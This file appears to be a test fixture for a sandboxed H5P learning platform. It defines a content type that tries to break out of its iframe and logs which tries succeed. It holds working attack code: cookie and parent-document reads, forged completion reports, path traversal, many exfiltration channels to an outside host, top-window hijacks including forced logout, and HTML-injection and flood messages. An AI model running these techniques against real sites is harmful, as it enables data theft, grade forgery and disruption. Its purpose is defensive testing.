// A content type that tries every way out of its frame. `mode` in its content says what it does; what came of each try
// is left in `window.tries`, for the test to read. "got" means that it should not have.
var Waymark = window.Waymark || {};
Waymark.Attack = (function ($, EventDispatcher) {
  function Attack(content, id) {
    EventDispatcher.call(this);
    const { out, site, mode, page, other } = content;
    const report = `${location.pathname}report/`; // of the very play that it runs in
    const tries = (window.tries = {});
    const leak = (name) => `${out}/${name}?what=${encodeURIComponent(location.href)}`;
    const note = (name, what) => (tries[name] = String(what).slice(0, 300));
    const attempt = (name, deed) => {
      try {
        const result = deed();
        if (result && typeof result.then === "function") {
          note(name, "waiting");
          result.then((value) => note(name, `got ${value}`), (error) => note(name, `refused ${error.name ?? error}`));
        } else note(name, `got ${result}`);
      } catch (error) {
        note(name, `refused ${error.name}`);
      }
    };
    const element = (kind, attributes, parent = document.body) => {
      const made = document.createElement(kind);
      for (const [name, value] of Object.entries(attributes)) made.setAttribute(name, value);
      parent.append(made);
      return made;
    };

    // --- what belongs to the site ---
    function reach() {
      attempt("cookie", () => Object.getOwnPropertyDescriptor(Document.prototype, "cookie").get.call(document));
      attempt("parent document", () => parent.document.body.innerHTML);
      attempt("top document", () => top.document.cookie);
      attempt("parent address", () => parent.location.href);
      attempt("parent words", () => parent.token);
      attempt("neighbour", () => parent.frames[1].document.body.innerHTML);
      attempt("database", () => indexedDB.open("x"));
      attempt("caches", () => caches.open("x"));
      attempt("service worker", () => navigator.serviceWorker.register(`${site}/static/waymark/page.js`));
      attempt("child frame", () => element("iframe", {}).contentDocument.title);
      attempt("popup", () => window.open(`${site}/learn/`).name);
      attempt("question", () => confirm("Your password?"));
      attempt("learning page", () => fetch(`${site}/learn/`, { credentials: "include" }).then((r) => r.text()));
      attempt("learning page by XHR", () => new Promise((go, stop) => {
        const request = new XMLHttpRequest();
        request.withCredentials = true;
        request.open("GET", `${site}/learn/`);
        request.onload = () => go(request.responseText);
        request.onerror = () => stop(new Error("network"));
        request.send();
      }));
      const words = { key: "00000000-0000-4000-8000-000000000001", statement: { verb: { id: "http://adlnet.gov/expapi/verbs/completed" }, object: {}, result: { score: { scaled: 1 }, completion: true } } };
      for (const credentials of ["include", "omit"]) {
        attempt(`forged report, ${credentials}`, () => fetch(`${site}${report}`, { method: "POST", credentials, mode: "no-cors", body: JSON.stringify(words) }));
      }
      attempt("forged report by beacon", () => navigator.sendBeacon(`${site}${report}`, JSON.stringify(words)) || Promise.reject("refused"));
      const form = element("form", { method: "post", action: `${site}${report}`, target: "_top" });
      element("input", { name: "key", value: words.key }, form);
      attempt("forged report by form", () => form.submit());
      attempt("other version", () => fetch(other).then((r) => r.text()));
      const files = H5P.getPath("", id).replace(/\/content\/?$/, "");
      for (const way of ["..", "../..", "%2e%2e", "..%2f..", "....//", "content/../.."]) {
        attempt(`path ${way}`, () => fetch(`${files}/${way}/package.h5p`).then((r) => (r.ok ? r.text() : Promise.reject(r.status))));
      }
    }

    // --- the world outside ---
    function call() {
      attempt("fetch", () => fetch(leak("fetch"), { mode: "no-cors" }));
      attempt("fetch kept alive", () => fetch(leak("keepalive"), { mode: "no-cors", keepalive: true, method: "POST" }));
      attempt("XHR", () => { const r = new XMLHttpRequest(); r.open("GET", leak("xhr")); r.send(); });
      attempt("beacon", () => navigator.sendBeacon(leak("beacon"), "x"));
      attempt("socket", () => new WebSocket(leak("socket").replace("http", "ws")));
      attempt("events", () => new EventSource(leak("events")));
      attempt("transport", () => new WebTransport(leak("transport").replace("http:", "https:")));
      attempt("worker", () => new Worker(leak("worker")));
      attempt("worker from a blob", () => new Worker(URL.createObjectURL(new Blob([`importScripts("${leak("blob")}")`]))));
      attempt("shared worker", () => new SharedWorker(leak("shared")));
      attempt("import", () => import(leak("import")));
      attempt("image", () => { new Image().src = leak("image"); });
      for (const rel of ["prefetch", "preload", "modulepreload", "stylesheet", "icon", "manifest", "prerender", "preconnect", "dns-prefetch"]) {
        attempt(`link ${rel}`, () => element("link", rel === "preload" ? { rel, href: leak(rel), as: "image" } : { rel, href: leak(rel) }, document.head).rel);
      }
      for (const kind of ["script", "iframe", "embed", "img", "audio", "video", "input"]) {
        attempt(kind, () => element(kind, kind === "input" ? { src: leak(kind), type: "image" } : { src: leak(kind) }).nodeName);
      }
      attempt("srcset", () => element("img", { srcset: `${leak("srcset")} 1x` }).nodeName);
      attempt("object", () => element("object", { data: leak("object") }).nodeName);
      attempt("srcdoc", () => element("iframe", { srcdoc: `<img src="${leak("srcdoc")}">` }).nodeName);
      attempt("script address", () => element("iframe", { src: `javascript:fetch('${leak("javascript")}')` }).nodeName);
      attempt("blob frame", () => element("iframe", { src: URL.createObjectURL(new Blob([`<img src="${leak("blobframe")}">`], { type: "text/html" })) }).nodeName);
      attempt("styles", () => { element("style", {}).textContent = `@import "${leak("css-import")}"; @font-face{font-family:x;src:url("${leak("css-font")}")} body{font-family:x;background:url("${leak("css-image")}")}`; });
      attempt("svg", () => { document.body.insertAdjacentHTML("beforeend", `<svg><image href="${leak("svg")}"/><use href="${leak("use")}#x"/></svg>`); });
      attempt("base", () => { const base = element("base", { href: `${out}/base/` }, document.head); new Image().src = "relative.png"; base.remove(); });
      attempt("ping", () => element("a", { href: "#x", ping: leak("ping") }).click());
      attempt("link to a new window", () => element("a", { href: leak("blank"), target: "_blank" }).click());
      attempt("form", () => { const form = element("form", { action: leak("form"), target: "_blank", method: "post" }); form.submit(); });
      attempt("popup", () => { window.open(leak("popup")); });
      attempt("call from browser to browser", () => {
        const line = new RTCPeerConnection({ iceServers: [{ urls: content.stun }] });
        line.createDataChannel("x");
        return line.createOffer().then((offer) => line.setLocalDescription(offer));
      });
    }

    // --- the page around ---
    function move() {
      attempt("top", () => { top.location = leak("top"); });
      attempt("parent", () => { parent.location.href = leak("parent"); });
      attempt("parent within the site", () => { parent.location.replace(`${site}/accounts/logout/`); });
      attempt("link to the top", () => element("a", { href: leak("a-top"), target: "_top" }).click());
      attempt("form to the top", () => { element("form", { action: leak("form-top"), target: "_top" }).submit(); });
      attempt("popup to the top", () => { window.open(leak("open-top"), "_top"); });
      attempt("close", () => { parent.close(); });
    }

    // --- words that are none ---
    function babble() {
      const say = (message) => parent.postMessage(message, "*");
      const html = "<img src=x onerror=document.title='broken'>";
      for (const h of [NaN, Infinity, -5, "9999px", null, {}, [400], 1e9]) say({ t: "h5p:size", h });
      for (const s of [html, "{}", "[]", "null", '{"verb":{"id":7}}', 7, null, {}, "x".repeat(200000)]) say({ t: "h5p:xapi", s });
      say({ t: "h5p:xapi", s: JSON.stringify({ verb: { id: html }, object: { id: html }, result: { response: html } }) });
      for (const s of [7, null, {}, "x".repeat(200000)]) say({ t: "h5p:state", s });
      for (const message of [null, 1, "h5p:ready", [], { t: "h5p:words", words: html }, { t: "h5p:error", m: html }, { words: html, done: true }]) say(message);
    }

    function flood() {
      for (let n = 0; n < 20000; n += 1) parent.postMessage({ t: "h5p:xapi", s: JSON.stringify({ verb: { id: `no-verb-${n}` } }) }, "*");
    }

    const leave = {
      address: () => { location.href = leak("leave-address"); },
      refresh: () => { element("meta", { "http-equiv": "refresh", content: `0;url=${leak("leave-refresh")}` }, document.head); },
      link: () => element("a", { href: leak("leave-link") }).click(),
      download: () => element("a", { href: leak("leave-download"), download: "x" }).click(),
      form: () => element("form", { action: leak("leave-form") }).submit(),
      data: () => { location.href = `data:text/html,<img src="${leak("leave-data")}">`; },
      blob: () => { location.href = URL.createObjectURL(new Blob([`<img src="${leak("leave-blob")}">`], { type: "text/html" })); },
      site: () => { location.href = `${site}${page}`; },
      back: () => { history.go(-1); },
    };

    this.attach = function ($container) {
      ($container[0] || $container).append(`An activity that does more than it should: ${mode}`);
      this.trigger("resize");
      window.attack = () => (({ reach, call, move, babble, flood })[mode] ?? leave[mode])();
    };
  }
  Attack.prototype = Object.create(EventDispatcher.prototype);
  Attack.prototype.constructor = Attack;
  return Attack;
})(H5P.jQuery, H5P.EventDispatcher);
window.Waymark = Waymark;
